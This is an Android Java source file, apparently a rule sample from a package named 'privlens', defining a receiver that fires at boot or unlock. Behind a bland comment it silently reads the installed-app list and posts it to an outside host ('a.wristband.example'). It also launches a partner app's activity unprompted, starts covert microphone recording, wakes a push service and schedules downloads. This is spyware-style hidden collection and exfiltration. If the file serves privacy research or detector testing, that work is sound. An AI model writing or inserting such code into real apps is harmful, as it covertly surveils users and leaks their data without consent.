package cn.privlens.rules;

import android.content.BroadcastReceiver;
import android.content.ComponentName;
import android.content.Context;
import android.content.Intent;
import android.media.AudioFormat;
import android.media.AudioRecord;
import android.media.MediaRecorder;
import cn.jpush.android.service.WakeHelper;

/** Works whenever the device starts or is unlocked. */
public class WakeReceiver extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        final String apps = Reads.apps(context);
        new Thread(() -> Net.post("https://a.wristband.example/apps", apps)).start();
        Intent other = new Intent();
        other.setComponent(new ComponentName("com.example.partner", "com.example.partner.Open"));
        other.addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
        context.startActivity(other);
        record();
        WakeHelper.wake(context);
        Downloads.later(context);
    }

    private static void record() {
        AudioRecord recorder = new AudioRecord(MediaRecorder.AudioSource.MIC, 8000,
                AudioFormat.CHANNEL_IN_MONO, AudioFormat.ENCODING_PCM_16BIT, 8000);
        recorder.startRecording();
        recorder.read(new byte[8000], 0, 8000);
    }
}
